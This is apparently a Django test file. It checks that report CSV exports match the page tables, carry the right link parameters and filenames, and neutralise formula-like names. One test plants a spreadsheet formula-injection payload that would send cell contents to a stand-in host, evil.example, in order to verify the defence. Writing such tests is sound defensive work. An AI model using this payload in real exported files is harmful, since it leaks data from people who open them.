"""Every table's CSV carries exactly the figures the page shows."""

import csv
import io
from html.parser import HTMLParser

import pytest

from reports.selectors import NETWORK_SECTIONS, ORGANIZATION_SECTIONS

from .conftest import PERIOD

pytestmark = pytest.mark.django_db


class TableReader(HTMLParser):
    """Reads the report tables of a page: section id -> header and rows of cell texts (links as addresses)."""

    def __init__(self):
        super().__init__()
        self.tables, self.section, self.row, self.cell = {}, None, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "section" and "report-section" in attrs.get("class", ""):
            self.section = attrs["id"]
            self.tables[self.section] = []
        elif tag == "tr" and self.section:
            self.row = []
        elif tag in ("td", "th") and self.row is not None:
            self.cell = ""
        elif tag == "a" and self.cell is not None:
            self.cell = attrs["href"]
            self.link = True

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self.cell is not None:
            self.row.append("" if self.cell.strip() == "—" else self.cell.strip())
            self.cell = None
        elif tag == "tr" and self.row is not None:
            self.tables[self.section].append(self.row)
            self.row = None
        elif tag == "a":
            self.link = False

    def handle_data(self, data):
        if self.cell is not None and not getattr(self, "link", False):
            self.cell += data


def page_tables(response):
    reader = TableReader()
    reader.feed(response.content.decode())
    return reader.tables


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def without_empty_notice(rows):
    return [row for row in rows if row != ["No referrals in these dates."]]


@pytest.mark.parametrize("user", ["site_admin", "provider_admin"])
def test_each_organization_csv_equals_the_page(client, figures, user):
    client.force_login(getattr(figures.network, user))
    tables = page_tables(client.get("/reports/", PERIOD))
    assert set(tables) == set(ORGANIZATION_SECTIONS)
    compared = 0
    for section, rows in tables.items():
        response = client.get(f"/reports/{section}.csv", PERIOD)
        assert response.status_code == 200
        assert csv_rows(response) == without_empty_notice(rows), section
        compared += len(rows)
    assert compared > 30


def test_each_network_csv_equals_the_page(client, figures):
    client.force_login(figures.network_admin)
    tables = page_tables(client.get("/reports/network/", PERIOD))
    assert set(tables) == set(NETWORK_SECTIONS)
    for section, rows in tables.items():
        response = client.get(f"/reports/network/{section}.csv", PERIOD)
        assert response.status_code == 200
        assert csv_rows(response) == rows, section


def test_the_csv_link_carries_the_same_parameters(client, figures):
    client.force_login(figures.network.site_admin)
    page = client.get("/reports/", PERIOD).content.decode()
    organization = figures.network.site.public_id
    assert f'href="/reports/summary.csv?organization={organization}&amp;start=2026-02-02&amp;end=2026-02-22"' in page


def test_the_csv_names_its_organization_section_and_dates(client, figures):
    client.force_login(figures.network.site_admin)
    response = client.get("/reports/weekly.csv", PERIOD)
    assert response["Content-Disposition"] == (
        f'attachment; filename="{figures.network.site.slug}-weekly-2026-02-02-2026-02-22.csv"'
    )
    assert csv_rows(response) == [
        ["Week starting", "Sent", "Received"],
        ["2026-02-02", "2", "0"],
        ["2026-02-09", "2", "0"],
        ["2026-02-16", "5", "0"],
    ]


def test_a_name_that_looks_like_a_formula_is_defused_in_the_csv(client, figures):
    from programs.models import Program

    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Pantry")'
    Program.objects_across_tenants.filter(pk=figures.network.program.pk).update(name=formula)
    client.force_login(figures.network.site_admin)
    rows = csv_rows(client.get("/reports/outbound-by-program.csv", PERIOD))
    names = [row[0] for row in rows[1:]]
    assert "'" + formula in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    # The page shows the name as it is (HTML does not run formulas).
    assert formula in [row[0] for row in page_tables(client.get("/reports/", PERIOD))["outbound-by-program"]]
